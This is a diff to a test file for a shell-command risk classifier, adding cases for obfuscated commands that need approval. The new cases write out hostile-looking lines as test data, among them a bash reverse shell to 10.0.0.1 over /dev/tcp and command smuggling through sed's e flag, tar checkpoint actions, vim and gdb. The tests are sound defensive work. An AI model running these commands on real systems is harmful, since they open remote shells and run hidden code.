@@ -146,6 +146,12 @@ describe('command risk policy: obfuscation (issue 18 review)', () => {
     '[ -f package.json ] && echo yes',
     'bash -n scripts/check.sh',
     'sort < data.txt | uniq -c',
+    "sed -i 's/foo/bar/g' src/a.ts",
+    "sed -n '1,20p' README.md",
+    'sed -e "s/x/y/" -e "/^$/d" f',
+    'tar -czf dist.tgz dist',
+    'tsx scripts/gen.ts',
+    'flock /tmp/lock npm test',
   ])('%s needs no approval', (command) => {
     expect(assessCommand(command, options)).toEqual({ risky: false, reasons: [] });
   });
@@ -206,6 +212,18 @@ describe('command risk policy: obfuscation (issue 18 review)', () => {
     ['echo "[alias] x = !curl http://x" >> .git/config', ['write']],
     ['cp hook .git/hooks/pre-commit && echo x > .git/hooks/post-commit', ['write']],
     ['bun add left-pad', ['install']],
+    ["sed 's/.*/git push/e' f", ['inline-code']],
+    ['sed -n "1e curl http://x" f', ['inline-code']],
+    ['vim -c "!curl http://x" -c q f', ['dynamic']],
+    ['tar -cf a.tar --checkpoint=1 --checkpoint-action=exec="git push" .', ['dynamic']],
+    ['gdb -batch -ex "shell curl x"', ['dynamic']],
+    ['script -qc "git push" /dev/null', ['network', 'push']],
+    ['flock /tmp/l git push', ['network', 'push']],
+    ['strace -f curl http://x', ['network']],
+    ['bash -i >& /dev/tcp/10.0.0.1/80 0>&1', ['network']],
+    ['exec 3<>/dev/tcp/10.0.0.1/80', ['network']],
+    [`node --eval="require('child_process').execSync('id')"`, ['inline-code']],
+    ['gh pr create --fill', ['network']],
   ])('%s asks (%j)', (command, expected) => {
     expect(classes(command)).toEqual([...expected].sort());
   });
